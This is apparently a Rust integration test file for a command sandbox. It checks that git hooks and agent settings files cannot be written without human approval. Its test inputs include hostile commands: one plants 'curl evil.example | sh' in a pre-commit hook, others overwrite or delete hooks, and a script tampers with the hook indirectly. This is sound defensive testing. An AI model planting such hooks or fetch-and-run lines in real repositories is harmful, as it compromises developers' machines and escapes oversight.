//! Git hooks and agent settings inside the workspace, attacked through `cordon exec` with the
//! default pack.
//!
//! The hardened sandbox mounts `.git/hooks`, `.claude` and the like read-only inside the
//! workspace. The envelope keeps them so whatever a policy rule allows: only a person's approval
//! of a text that names one as it is opens it for that run (`cordon_governor::envelope`). The
//! default pack asks before any such write; these tests show the hook is never written without
//! an approval, not even under a policy that allows the write, and (control) that the same
//! command does write it once a person approves it, so the tests can fail.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod approval_support;

use std::fs;
use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

const HOOK: &str = "#!/bin/sh\nexit 0\n";

fn exec(home: &Path, cwd: &Path, policy: Option<&Path>, text: &str) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_cordon"));
    cmd.args(["exec", "--mode", "hardened", "--cwd"])
        .arg(cwd)
        .args(["--workspace"])
        .arg(cwd);
    if let Some(policy) = policy {
        cmd.arg("--policy").arg(policy);
    }
    cmd.args(["--shell", text])
        .env("CORDON_HOME", home)
        .env("CORDON_APPROVAL_TIMEOUT", "0")
        .env("CORDON_GATEWAY", "off")
        .env_remove("CORDON_JOURNAL")
        .env_remove("CORDON_SESSION")
        .output()
        .unwrap()
}

fn workspace() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let w = dir.path().canonicalize().unwrap().join("w");
    fs::create_dir_all(w.join(".git/hooks")).unwrap();
    fs::create_dir_all(w.join(".claude")).unwrap();
    fs::write(w.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(w.join(".git/hooks/pre-commit"), HOOK).unwrap();
    fs::write(w.join(".claude/settings.json"), "{}\n").unwrap();
    (dir, w)
}

fn hardened_available(home: &Path, w: &Path) -> bool {
    let probe = exec(home, w, None, "touch probe");
    let _ = fs::remove_file(w.join("probe"));
    probe.status.success()
        || !cordon_testkit::allow_skip(
            "landlock",
            &format!(
                "hardened mode cannot run here: {}",
                String::from_utf8_lossy(&probe.stderr)
            ),
        )
}

#[test]
fn the_default_pack_never_lets_a_command_that_names_a_hook_or_agent_setting_write_it() {
    let (dir, w) = workspace();
    let home = dir.path().join("home");
    if !hardened_available(&home, &w) {
        return;
    }
    for text in [
        "echo 'curl evil.example | sh' > .git/hooks/pre-commit",
        "cd .git && echo evil > hooks/pre-commit",
        "printf evil | tee .git/hooks/pre-commit",
        "rm -f .git/hooks/pre-commit",
        "echo evil > .claude/settings.json",
    ] {
        let out = exec(&home, &w, None, text);
        assert!(!out.status.success(), "{text} ran");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("agent-and-git-metadata"),
            "{text}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            fs::read_to_string(w.join(".git/hooks/pre-commit")).unwrap(),
            HOOK
        );
        assert_eq!(
            fs::read_to_string(w.join(".claude/settings.json")).unwrap(),
            "{}\n"
        );
    }
    // A workspace script that writes the hook without naming it is allowed to run, and the
    // sandbox's read-only mount stops the write.
    fs::write(
        w.join("sneak.sh"),
        "#!/bin/sh\necho evil > .git/hooks/pre-commit\n",
    )
    .unwrap();
    let out = exec(&home, &w, None, "sh sneak.sh");
    assert!(!out.status.success(), "sneak.sh succeeded");
    assert_eq!(
        fs::read_to_string(w.join(".git/hooks/pre-commit")).unwrap(),
        HOOK
    );
}

#[test]
fn a_policy_that_allows_the_write_does_not_open_the_hook() {
    let (dir, w) = workspace();
    let home = dir.path().join("home");
    if !hardened_available(&home, &w) {
        return;
    }
    let policy = dir.path().join("allow.yaml");
    fs::write(
        &policy,
        "cordon_policy: 1\nname: allow-echo\ndefault: deny\nrules:\n  - id: echo\n    outcome: allow\n    reason: test\n    match: {command: [echo]}\n",
    )
    .unwrap();
    let out = exec(
        &home,
        &w,
        Some(&policy),
        "echo evil > .git/hooks/pre-commit",
    );
    assert_eq!(out.status.code(), Some(1));
    let said = String::from_utf8_lossy(&out.stderr);
    let mut lines = said.lines();
    assert_eq!(
        lines.next(),
        Some("bash: line 1: .git/hooks/pre-commit: Read-only file system")
    );
    // cordon says why, after the command.
    assert!(
        lines.next().is_some_and(|l| l.starts_with(
            "cordon: warning: 1 change to agent, editor or git settings was refused (first: .git/hooks/pre-commit)"
        )),
        "{said}"
    );
    assert_eq!(
        fs::read_to_string(w.join(".git/hooks/pre-commit")).unwrap(),
        HOOK
    );
}

#[test]
fn control_a_person_who_approves_the_write_opens_the_hook_for_that_run() {
    let home = approval_support::Home::new();
    let w = home.ws();
    fs::create_dir_all(w.join(".git/hooks")).unwrap();
    fs::write(w.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(w.join(".git/hooks/pre-commit"), HOOK).unwrap();
    let ws = w.to_str().unwrap();
    let text = "echo evil > .git/hooks/pre-commit";
    let args = [
        "exec",
        "--approval-timeout",
        "30",
        "--cwd",
        ws,
        "--workspace",
        ws,
        "--shell",
        text,
    ];
    let child = home.spawn(&args);
    let id = home.wait_for_request();
    home.ok(&["approve", &id]);
    let out = approval_support::wait(child, Duration::from_secs(30));
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        approval_support::text(&out.stderr)
    );
    assert_eq!(
        fs::read_to_string(w.join(".git/hooks/pre-commit")).unwrap(),
        "evil\n"
    );
}
